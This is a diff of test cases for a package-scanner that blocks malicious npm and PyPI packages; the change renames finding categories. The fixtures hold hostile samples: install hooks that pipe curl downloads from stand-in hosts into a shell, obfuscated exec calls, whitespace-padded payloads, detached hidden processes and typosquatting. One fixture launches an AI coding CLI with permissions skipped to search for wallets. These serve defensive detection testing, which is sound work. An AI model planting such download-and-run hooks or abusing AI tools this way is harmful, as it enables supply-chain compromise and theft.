@@ -9,7 +9,7 @@ describe('analyzePackage (npm)', () => {
   it('blocks a postinstall that pipes a download to a shell, naming package.json and the line', async () => {
     const r = await analyze({ 'package.json': manifest({ scripts: { postinstall: 'curl -s https://203.0.113.9/x.sh | sh' } }) });
     expect(r.verdict).toBe('BLOCK');
-    expect(r.findings[0]).toMatchObject({ category: 'download-execute', severity: 'CRIT', file: 'package.json', line: 5 });
+    expect(r.findings[0]).toMatchObject({ category: 'remote_code_execution', severity: 'CRIT', file: 'package.json', line: 5 });
   });
 
   it('follows `node install.js` to the file it runs and reports the exfiltration there', async () => {
@@ -27,7 +27,7 @@ describe('analyzePackage (npm)', () => {
       'index.js': `const m = 'child_' + 'process';\nconst c = require(m);\nconst k = ['ex', 'ec'].join('');\nc[k]('curl https://payload.example/a | bash');\n`,
     });
     expect(r.verdict).toBe('BLOCK');
-    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'download-execute', file: 'index.js', line: 4 }));
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'remote_code_execution', file: 'index.js', line: 4 }));
     expect(r.findings).toContainEqual(expect.objectContaining({ category: 'obfuscation', title: 'Sensitive name hidden by string building' }));
   });
 
@@ -55,7 +55,7 @@ https.get(url, (res) => { const out = fs.createWriteStream('bin/esbuild'); res.p
       'telemetry.js': `const { spawnSync } = require('child_process');\nconst flags = ['--dangerously-skip-permissions', '-p', 'find wallets'];\nspawnSync('claude', flags);\n`,
     });
     expect(r.verdict).toBe('BLOCK');
-    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'ai-cli-abuse', file: 'telemetry.js' }));
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'excessive_permissions', file: 'telemetry.js' }));
   });
 
   it('blocks browser wallet hooking and reports a detached hidden process at install', async () => {
@@ -65,7 +65,7 @@ https.get(url, (res) => { const out = fs.createWriteStream('bin/esbuild'); res.p
       'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
       'setup.js': `require('child_process').spawn(process.execPath, ['bundle.js'], { detached: true, stdio: 'ignore' }).unref();`,
     });
-    expect(detached.findings).toContainEqual(expect.objectContaining({ category: 'process-execution', severity: 'CRIT', file: 'setup.js', line: 1 }));
+    expect(detached.findings).toContainEqual(expect.objectContaining({ category: 'malware', severity: 'CRIT', file: 'setup.js', line: 1 }));
   });
 
   it('still parses a payload padded with whitespace past the parse size limit', async () => {
@@ -74,7 +74,7 @@ https.get(url, (res) => { const out = fs.createWriteStream('bin/esbuild'); res.p
       'index.js': `module.exports = 1;${' '.repeat(900_000)}require('child_process').exec('curl -s https://c.example/a | sh');\n`,
     });
     expect(r.verdict).toBe('BLOCK');
-    expect(r.findings[0]).toMatchObject({ category: 'download-execute', file: 'index.js', line: 1 });
+    expect(r.findings[0]).toMatchObject({ category: 'remote_code_execution', file: 'index.js', line: 1 });
   });
 
   it('keeps a CLI that reads HOME and spawns git with the environment at ALLOW', async () => {
@@ -94,7 +94,7 @@ describe('analyzePackage (PyPI)', () => {
     });
     expect(r.verdict).toBe('BLOCK');
     expect(r.findings).toContainEqual(expect.objectContaining({ category: 'exfiltration', file: 'setup.py', line: 7 }));
-    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'install-script', title: 'setup.py overrides the install command (runs at install)', line: 4 }));
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'install_script', title: 'setup.py overrides the install command (runs at install)', line: 4 }));
   });
 
   it('flags a typosquatted wheel with a .pth that runs code at interpreter start', async () => {
@@ -105,7 +105,7 @@ describe('analyzePackage (PyPI)', () => {
       'reqeusts/__init__.py': 'VERSION = "2.0"\n',
     });
     expect(r.verdict).toBe('BLOCK');
-    expect(r.findings.map((f) => f.category)).toEqual(expect.arrayContaining(['typosquat', 'install-script']));
+    expect(r.findings.map((f) => f.category)).toEqual(expect.arrayContaining(['typosquat', 'install_script']));
   });
 
   it('keeps a .pth that only imports a local shim at ALLOW (setuptools ships one)', async () => {
@@ -123,7 +123,7 @@ describe('analyzePackage (PyPI)', () => {
       'hatch_build.py': 'import socket\nprint(socket.gethostname())\n',
       '_build/backend.py': "import os\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 1000'], start_new_session=True, stdout=subprocess.DEVNULL)\n",
     });
-    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'process-execution', severity: 'CRIT', file: '_build/backend.py', line: 3 }));
+    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'malware', severity: 'CRIT', file: '_build/backend.py', line: 3 }));
   });
 
   it('allows a plain setup.py', async () => {
